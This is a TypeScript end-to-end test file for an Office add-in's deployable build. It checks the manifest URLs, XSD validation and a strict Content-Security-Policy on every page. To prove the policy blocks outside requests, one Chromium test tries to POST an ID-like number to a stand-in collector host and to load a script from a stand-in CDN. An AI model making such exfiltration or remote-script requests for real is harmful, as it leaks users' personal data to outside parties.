/**
 * The deployable site (README §部署): the production build made for a public address (`--env url=…`, the same
 * build the other e2e files use) holds the static site, a manifest.xml pointing at that address that validates
 * against the [MS-OWEMXML] XSDs, the icons and the support page; every page carries the Content-Security-Policy
 * of scripts/csp.js, and in Chromium that policy really blocks a request to any other address.
 */
import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { DIST, TEST_PUBLIC_URL, describeInChromium, ensureBuild, openPreview, type PreviewSession } from './browser';
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { parsePolicy, policy, OFFICE_JS_ORIGIN } = require('../../scripts/csp.js') as {
  parsePolicy(text: string): Record<string, string[]>;
  policy(o: { office: boolean }): string;
  OFFICE_JS_ORIGIN: string;
};
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { publicUrl } = require('../../scripts/public-url.js') as { publicUrl(raw: string | undefined): string | null };

const SCHEMA = path.resolve(__dirname, '..', '..', '..', 'shared', 'office-manifest-schemas', 'OfficeAppManifestV1_1.xsd');
/** Pages that run inside Office and load Office.js from Microsoft's CDN. */
const OFFICE_PAGES = ['taskpane.html', 'commands.html'];

jest.setTimeout(15 * 60 * 1000);

function pages(): string[] {
  return fs.readdirSync(DIST).filter((f) => f.endsWith('.html'));
}
function metaPolicy(html: string): string | null {
  const m = /<meta\s+http-equiv=["']?Content-Security-Policy["']?\s+content="([^"]+)"/i.exec(html);
  return m ? m[1] : null;
}

describe('public address setting', () => {
  test.each([
    ['https://addin.example.gov.cn', 'https://addin.example.gov.cn/'],
    ['https://addin.example.gov.cn/award-tally', 'https://addin.example.gov.cn/award-tally/'],
    ['  https://10.1.2.3:8443/tally/  ', 'https://10.1.2.3:8443/tally/'],
    ['https://评优.example.cn/', new URL('https://评优.example.cn/').href],
    ['', null],
    [undefined, null],
  ])('%p → %p', (raw, expected) => {
    expect(publicUrl(raw as string | undefined)).toBe(expected);
  });
  test.each([
    ['http://addin.example.gov.cn/', /https/],
    ['addin.example.gov.cn', /无效|invalid/],
    ['https://user:pw@addin.example.gov.cn/', /用户名|credentials/],
    ['https://addin.example.gov.cn/?v=1', /\?|query/],
    ['https://addin.example.gov.cn/#x', /#|fragment/],
    ['file:///C:/addin/', /https/],
  ])('%p is refused', (raw, message) => {
    expect(() => publicUrl(raw)).toThrow(message);
  });
  test('the build refuses an http address before building anything', async () => {
    // eslint-disable-next-line @typescript-eslint/no-require-imports
    const config = require('../../webpack.config.js') as (env: object, options: object) => Promise<unknown>;
    await expect(config({ url: 'http://addin.example.gov.cn/' }, { mode: 'production' })).rejects.toThrow(/https/);
  });
});

describe('production build for a public address', () => {
  beforeAll(async () => {
    await ensureBuild('deploy e2e');
  });

  test('manifest.xml points every add-in URL at the public address, each to a file of the build', () => {
    const xml = fs.readFileSync(path.join(DIST, 'manifest.xml'), 'utf8');
    expect(xml).not.toContain('localhost');
    const urls = [...new Set([...xml.matchAll(/(?:DefaultValue|Value)="(https?:\/\/[^"]+)"/g)].map((m) => m[1]))];
    const own = urls.filter((u) => u.startsWith(TEST_PUBLIC_URL));
    // Microsoft's own "learn more" link is the only other address.
    expect(urls.filter((u) => !u.startsWith(TEST_PUBLIC_URL))).toEqual(['https://go.microsoft.com/fwlink/?LinkId=276812']);
    const files = own.map((u) => u.slice(TEST_PUBLIC_URL.length));
    expect(files).toEqual(expect.arrayContaining(['taskpane.html', 'commands.html', 'support.html', 'assets/icon-32.png', 'assets/icon-80.png']));
    expect(files.filter((f) => !fs.existsSync(path.join(DIST, f)))).toEqual([]);
    expect(xml).toMatch(new RegExp(`<SupportUrl DefaultValue="${TEST_PUBLIC_URL.replace(/[.]/g, '\\.')}support\\.html"/>`));
  });

  (fs.existsSync(SCHEMA) ? test : test.skip)('manifest.xml of the build validates against the XSDs (xmllint)', () => {
    const run = spawnSync('xmllint', ['--noout', '--nonet', '--schema', SCHEMA, path.join(DIST, 'manifest.xml')], { encoding: 'utf8' });
    if (run.error) throw new Error(`xmllint is not installed (apt-get install -y libxml2-utils): ${run.error.message}`);
    expect(run.stderr.trim()).toMatch(/manifest\.xml validates$/);
    expect(run.status).toBe(0);
  });

  test('the site holds the browser version, the support page and the icons', () => {
    for (const f of ['index.html', 'preview.html', 'taskpane.html', 'commands.html', 'support.html', 'assets/icon-16.png', 'assets/icon-32.png', 'assets/icon-64.png', 'assets/icon-80.png']) {
      expect({ f, exists: fs.existsSync(path.join(DIST, f)) }).toEqual({ f, exists: true });
    }
  });

  test('every page carries the policy before any script: own scripts (and Office.js where it runs in Office), no connect-src beyond its own files', () => {
    const all = pages();
    expect(all.length).toBeGreaterThanOrEqual(5);
    for (const page of all) {
      const html = fs.readFileSync(path.join(DIST, page), 'utf8');
      const text = metaPolicy(html);
      expect({ page, text }).toEqual({ page, text: expect.any(String) });
      const p = parsePolicy(text as string);
      const office = OFFICE_PAGES.includes(page);
      expect({ page, connect: p['connect-src'] }).toEqual({ page, connect: ["'self'"] });
      expect({ page, def: p['default-src'] }).toEqual({ page, def: ["'self'"] });
      const scriptSources = p['script-src'].filter((s) => !s.startsWith("'sha256-"));
      expect({ page, scriptSources }).toEqual({ page, scriptSources: office ? ["'self'", OFFICE_JS_ORIGIN] : ["'self'"] });
      expect(p['object-src']).toEqual(["'none'"]);
      expect(text).not.toMatch(/unsafe-eval|\*/);
      // The meta element comes before the first script, or that script would run unguarded.
      const firstScript = html.search(/<script\b/i);
      if (firstScript >= 0) expect(html.indexOf('Content-Security-Policy')).toBeLessThan(firstScript);
      // Each script the page loads is its own file or Office.js.
      for (const m of html.matchAll(/<script\b[^>]*\bsrc=["']?([^"' >]+)/gi)) {
        const src = m[1];
        expect({ page, src, ok: !/^[a-z]+:|^\/\//i.test(src) || src.startsWith(`${OFFICE_JS_ORIGIN}/`) }).toEqual({ page, src, ok: true });
      }
    }
  });

  test('the policy of scripts/csp.js is the one in the pages', () => {
    const text = metaPolicy(fs.readFileSync(path.join(DIST, 'index.html'), 'utf8'));
    expect(text).toBe(policy({ office: false }));
  });
});

describeInChromium('deploy e2e')('the policy in Chromium', () => {
  let session: PreviewSession;
  beforeAll(async () => {
    await ensureBuild('deploy e2e');
    session = await openPreview();
  });
  afterAll(async () => {
    await session?.close();
  });

  test('taskpane.html: the old-webview check (an inline script) runs under the policy, allowed by its hash', async () => {
    const page = await session.context.newPage();
    try {
      const refused: string[] = [];
      page.on('console', (m) => {
        if (/Refused to execute inline script/i.test(m.text())) refused.push(m.text());
      });
      // Internet Explorer 11 as the check sees it: document.documentMode is set.
      await page.addInitScript(() => Object.defineProperty(document, 'documentMode', { value: 11, configurable: true }));
      await page.goto(`${session.base}taskpane.html`);
      await page.waitForSelector('#old-webview', { state: 'visible' });
      expect(await page.evaluate(() => document.documentElement.className)).toContain('old-webview');
      await expect(page.locator('#old-webview').textContent()).resolves.toContain('浏览器版');
      expect(refused).toEqual([]);
    } finally {
      await page.close();
    }
  });

  test.each(['index.html', 'taskpane.html'])('%s: a request to another address is refused by the page itself', async (pageName) => {
    const { page, base } = session;
    const violations: string[] = [];
    await page.exposeFunction(`reportViolation_${pageName.replace(/\W/g, '_')}`, (v: string) => violations.push(v));
    await page.goto(`${base}${pageName}`);
    const result = await page.evaluate(async (fnName) => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => {
        seen.push(`${e.violatedDirective} ${e.blockedURI}`);
        (window as unknown as Record<string, (v: string) => void>)[fnName](`${e.violatedDirective} ${e.blockedURI}`);
      });
      const outcome: Record<string, string> = {};
      try {
        await fetch('https://collector.example.org/upload', { method: 'POST', body: '110101199003074514' });
        outcome.fetch = 'sent';
      } catch (e) {
        outcome.fetch = `refused: ${String(e)}`;
      }
      outcome.own = await fetch('assets/icon-16.png').then((r) => String(r.status)).catch((e) => `refused: ${String(e)}`);
      const script = document.createElement('script');
      script.src = 'https://cdn.example.org/x.js';
      await new Promise<void>((resolve) => {
        script.onerror = () => resolve();
        script.onload = () => resolve();
        document.head.appendChild(script);
      });
      await new Promise((r) => setTimeout(r, 100));
      return { outcome, seen };
    }, `reportViolation_${pageName.replace(/\W/g, '_')}`);
    expect(result.outcome.fetch).toMatch(/^refused/);
    expect(result.outcome.own).toBe('200');
    expect(result.seen).toEqual(expect.arrayContaining([expect.stringMatching(/^connect-src https:\/\/collector\.example\.org/), expect.stringMatching(/^script-src(-elem)? https:\/\/cdn\.example\.org/)]));
    expect(violations.length).toBeGreaterThanOrEqual(2);
  });
});
